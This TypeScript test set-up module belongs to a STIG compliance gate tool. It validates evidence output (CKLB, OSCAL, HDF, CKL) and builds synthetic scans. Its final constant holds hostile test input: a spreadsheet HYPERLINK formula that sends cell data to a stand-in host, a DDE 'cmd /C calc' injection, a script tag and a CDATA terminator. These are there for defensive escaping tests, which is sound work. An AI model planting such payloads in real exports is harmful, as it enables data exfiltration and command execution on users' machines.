/**
 * Shared set-up for the evidence tests: the published schemas (read from ../shared/schemas beside the
 * repository, never copied), the validators, and evidence models built from real samples and synthetic
 * scans through the real reader and gate.
 */
import { Ajv, type ValidateFunction } from 'ajv';
import { Ajv2019 } from 'ajv/dist/2019.js';
import addFormats from 'ajv-formats';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildEvidenceModel } from '../../src/assessor/build-model.js';
import type { EvidenceModel, ScanFacts } from '../../src/assessor/model.js';
import { evaluateGate } from '../../src/gate/evaluate.js';
import type { GateInput, GatePolicy, GateResult, Waiver } from '../../src/gate/types.js';
import type { ScanResults } from '../../src/results/model.js';
import { readResultsFile } from '../../src/results/read.js';
import { SHARED } from '../support/paths.js';
import { benchmarkXml, type RuleSpec } from '../support/xccdf-builder.js';

export const SHARED_SCHEMAS = `${SHARED}schemas/`;

/** A schema's path in ../shared/schemas; throws saying what is missing on a fresh clone without it. */
export function schemaPath(name: string): string {
  const path = join(SHARED_SCHEMAS, name);
  if (!existsSync(path)) {
    throw new Error(
      `The evidence tests validate against the published schemas in ${SHARED_SCHEMAS} (the project's ` +
        `shared/schemas folder beside the repository, or STIG_GATE_SHARED/schemas: SV3_CKLB_1_0_JSON_SCHEMA.json, ` +
        `U_Checklist_Schema_V2.xsd, hdf-exec-json.json, oscal_complete_schema-1-2-2.json); ${name} is missing.`,
    );
  }
  return path;
}

/** Reads a JSON schema from ../shared/schemas. */
export function readSchema(name: string): Record<string, unknown> {
  return JSON.parse(readFileSync(schemaPath(name), 'utf8')) as Record<string, unknown>;
}

let cklb: ValidateFunction | undefined;
let oscal: ValidateFunction | undefined;
let oscalAjv: Ajv | undefined;
let hdf: ValidateFunction | undefined;

/** A DISA XCCDF rule id as DISA's checklists give it: `SV-203591r958362_rule`. */
export function cklbRuleIdSrc(ruleId: string): string {
  return ruleId.replace(/^xccdf_mil\.disa\.stig_rule_/, '');
}

/**
 * STIG Viewer 3's schema is JSON Schema draft 2019-09. One property is allowed beyond it: a STIG's
 * `version`, which the published 1.0 schema does not list but STIG Viewer 3 writes (`"version": "1"`) and
 * STIG Manager reads the revision from (see docs/assessor-evidence.md). Nothing else is loosened.
 */
export function cklbValidator(): ValidateFunction {
  if (!cklb) {
    const ajv = new Ajv2019({ allErrors: true, strict: false });
    addFormats.default(ajv);
    const schema = readSchema('SV3_CKLB_1_0_JSON_SCHEMA.json') as {
      $defs: { stig: { properties: Record<string, unknown> } };
    };
    schema.$defs.stig.properties.version = {
      description: 'The STIG version (a number), as STIG Viewer 3 writes it; not in the 1.0 schema.',
      type: 'string',
    };
    cklb = ajv.compile(schema);
  }
  return cklb;
}

/** OSCAL's complete schema is draft-07 with Unicode property escapes (\p{L}) in its patterns. */
export function oscalValidator(): ValidateFunction {
  if (!oscal) {
    oscalAjv = new Ajv({ allErrors: true, strict: false, unicodeRegExp: true });
    addFormats.default(oscalAjv);
    oscal = oscalAjv.compile(readSchema('oscal_complete_schema-1-2-2.json'));
  }
  return oscal;
}

/**
 * The errors of an OSCAL document against its own model's definition (the complete schema's `oneOf`
 * over all models buries them under every other model's), for a failed expectation's message.
 */
export function oscalErrors(document: object): string {
  const validate = oscalValidator();
  if (validate(document)) return '';
  const [root] = Object.keys(document);
  const definition = {
    'assessment-results': 'ar:assessment-results',
    'plan-of-action-and-milestones': 'poam:plan-of-action-and-milestones',
  }[root ?? ''];
  if (!definition || !oscalAjv) return errorsOf(validate);
  const id = (readSchema('oscal_complete_schema-1-2-2.json') as { $id: string }).$id;
  const inner = oscalAjv.compile({ $ref: `${id}#/definitions/oscal-complete-oscal-${definition}` });
  inner((document as Record<string, unknown>)[root!]);
  return errorsOf(inner);
}

export function hdfValidator(): ValidateFunction {
  if (!hdf) {
    const ajv = new Ajv({ allErrors: true, strict: false });
    addFormats.default(ajv);
    hdf = ajv.compile(readSchema('hdf-exec-json.json'));
  }
  return hdf;
}

/** The first few schema errors, readable in a failed expectation. */
export function errorsOf(validate: ValidateFunction): string {
  return JSON.stringify((validate.errors ?? []).slice(0, 5), null, 2);
}

/** Validates CKL text with `xmllint --noout --schema` (Debian libxml2-utils); returns its output. */
export function xmllintCkl(ckl: string): { ok: boolean; output: string } {
  const xsd = schemaPath('U_Checklist_Schema_V2.xsd');
  const dir = mkdtempSync(join(tmpdir(), 'stig-gate-ckl-'));
  const file = join(dir, 'stig-gate.ckl');
  writeFileSync(file, ckl);
  try {
    const output = execFileSync('xmllint', ['--noout', '--nonet', '--schema', xsd, file], {
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    return { ok: true, output };
  } catch (error) {
    const failed = error as { stderr?: string; message: string; code?: string };
    if (failed.code === 'ENOENT') {
      throw new Error(
        'xmllint is not installed: the CKL tests need Debian libxml2-utils (scripts/testenv/up.sh installs it)',
      );
    }
    return { ok: false, output: failed.stderr ?? failed.message };
  }
}

export const NOW = new Date('2026-11-23T12:00:00Z');
export const POLICY: GatePolicy = { failOn: 'new', severityThreshold: 'low' };

/** Facts as a scan fills them. */
export function factsFor(results: ScanResults, image = 'registry.example/app:1.0'): ScanFacts {
  return {
    image: { reference: image, digest: `registry.example/app@sha256:${'ab'.repeat(32)}` },
    scanner: {
      reference: 'cgr.dev/chainguard/openscap:latest-dev',
      digest: `cgr.dev/chainguard/openscap@sha256:${'cd'.repeat(32)}`,
      openscapVersion: results.scanner.version ?? '1.4.4',
    },
    mode: 'container',
    dataStream: { path: 'ssg-chainguard-gpos-ds.xml', sha256: 'ef'.repeat(32) },
    benchmark: results.benchmark,
    profile: results.profile,
    ...(results.startTime && { startTime: results.startTime }),
    ...(results.endTime && { endTime: results.endTime }),
    workflowRun: {
      repository: 'owner/repo',
      commit: '0123456789abcdef0123456789abcdef01234567',
      runUrl: 'https://github.com/owner/repo/actions/runs/7',
      runId: 7,
    },
  };
}

export interface Built {
  result: GateResult;
  current: ScanResults;
  model: EvidenceModel;
}

/** Gates `current` (with `baseline`, waivers and the inherited set as given) and builds its model. */
export function build(
  current: ScanResults,
  options: {
    baseline?: ScanResults;
    waivers?: Waiver[];
    inherited?: boolean;
    /** What the scan recorded beyond its results file (the image's os-release, say). */
    currentFacts?: GateInput['currentFacts'];
  } = {},
): Built {
  const result = evaluateGate({
    ...(options.currentFacts && { currentFacts: options.currentFacts }),
    current,
    baseline: options.baseline,
    waivers: options.waivers ?? [],
    inheritedFromHost: options.inherited ?? false,
    policy: POLICY,
    now: NOW,
    image: 'registry.example/app:1.0',
  });
  const model = buildEvidenceModel({
    result,
    current,
    facts: factsFor(current),
    tool: { name: 'stig-gate', version: '0.1.0' },
  });
  return { result, current, model };
}

/** Writes an XCCDF document made by the builder and reads it back through the real reader. */
export async function readBuilt(rules: RuleSpec[]): Promise<ScanResults> {
  const dir = mkdtempSync(join(tmpdir(), 'stig-gate-evidence-'));
  const file = join(dir, 'results.xml');
  writeFileSync(file, benchmarkXml(rules));
  return readResultsFile(file);
}

const RESULTS = [
  'pass',
  'fail',
  'notapplicable',
  'error',
  'unknown',
  'notchecked',
  'informational',
  'fixed',
  'notselected',
];
const SEVERITIES = ['high', 'medium', 'low', 'unknown'];

/** A 2,000-rule scan with every result value and severity, through the XCCDF builder and the reader. */
export function largeScan(): Promise<ScanResults> {
  const rules: RuleSpec[] = [];
  for (let i = 0; i < 2000; i++) {
    rules.push({
      id: `xccdf_mil.disa.stig_rule_SV-${300000 + i}r${900000 + i}_rule`,
      result: RESULTS[i % 7 === 0 ? 1 : i % RESULTS.length]!,
      severity: SEVERITIES[i % SEVERITIES.length]!,
      title: `Rule ${i} must hold`,
    });
  }
  return readBuilt(rules);
}

/** Hostile text: markup, entities, formula starters, quotes, a CDATA end and line breaks. */
export const HOSTILE = `=HYPERLINK("http://evil.example/?"&A1,"x") <script>alert('x')</script> & ]]> --> "quoted", 'single'\n+cmd|' /C calc'!A0\n-2+3\n@SUM(1+1)`;
